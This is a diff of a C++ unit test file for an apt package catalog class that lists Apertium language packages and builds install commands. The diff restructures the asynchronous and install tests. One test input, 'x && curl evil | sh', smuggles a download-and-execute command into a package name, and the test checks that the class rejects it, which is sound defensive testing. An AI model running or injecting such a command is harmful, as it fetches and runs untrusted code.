@@ -127,7 +127,12 @@ TEST(AptCatalogTest, EmptyListsShowInstalledPairsWithANote) {
     RecordedCommands commands;
     commands.outputs["apt-cache search"] = searchOutputWithoutLists;
     commands.outputs["dpkg-query -W"] = dpkgOutput;
-    const PackageCatalog::Listing listing = AptCatalog(commands.runner()).listing();
+    // Through the asynchronous entry point.
+    AptCatalog catalog(commands.runner());
+    QFuture<PackageCatalog::Listing> future = catalog.packages();
+    future.waitForFinished();
+    ASSERT_EQ(future.resultCount(), 1);
+    const PackageCatalog::Listing listing = future.result();
 
     EXPECT_EQ(names(listing.packages), (QStringList{"apertium-eng-spa*", "apertium-spa-cat*"}));
     EXPECT_EQ(listing.note, "not available, or the lists need refreshing");
@@ -140,31 +145,17 @@ TEST(AptCatalogTest, MissingToolsGiveAnEmptyListingWithANote) {
     EXPECT_FALSE(listing.note.isEmpty());
 }
 
-TEST(AptCatalogTest, PackagesRunsTheListingAsynchronously) {
-    RecordedCommands commands;
-    commands.outputs["apt-cache search"] = searchOutputWithoutLists;
-    commands.outputs["dpkg-query -W"] = dpkgOutput;
-    AptCatalog catalog(commands.runner());
-    QFuture<PackageCatalog::Listing> future = catalog.packages();
-    future.waitForFinished();
-    ASSERT_EQ(future.resultCount(), 1);
-    EXPECT_EQ(names(future.result().packages),
-              (QStringList{"apertium-eng-spa*", "apertium-spa-cat*"}));
-}
-
+// Never an odd name in a command the user is told to run.
 TEST(AptCatalogTest, InstallNamesTheCommandToRun) {
     AptCatalog catalog([](const QString&, const QStringList&) { return std::nullopt; });
     const PrepareResult result = catalog.install("apertium-eng-spa").result();
     EXPECT_EQ(result.outcome, PrepareResult::Outcome::manual);
     EXPECT_EQ(result.command, "sudo apt install apertium-eng-spa");
     EXPECT_TRUE(result.message.contains(result.command));
-}
 
-TEST(AptCatalogTest, InstallNeverPutsAnOddNameIntoACommand) {
-    AptCatalog catalog([](const QString&, const QStringList&) { return std::nullopt; });
-    const PrepareResult result = catalog.install("x && curl evil | sh").result();
-    EXPECT_EQ(result.outcome, PrepareResult::Outcome::failed);
-    EXPECT_TRUE(result.command.isEmpty());
+    const PrepareResult odd = catalog.install("x && curl evil | sh").result();
+    EXPECT_EQ(odd.outcome, PrepareResult::Outcome::failed);
+    EXPECT_TRUE(odd.command.isEmpty());
 }
 
 } // namespace
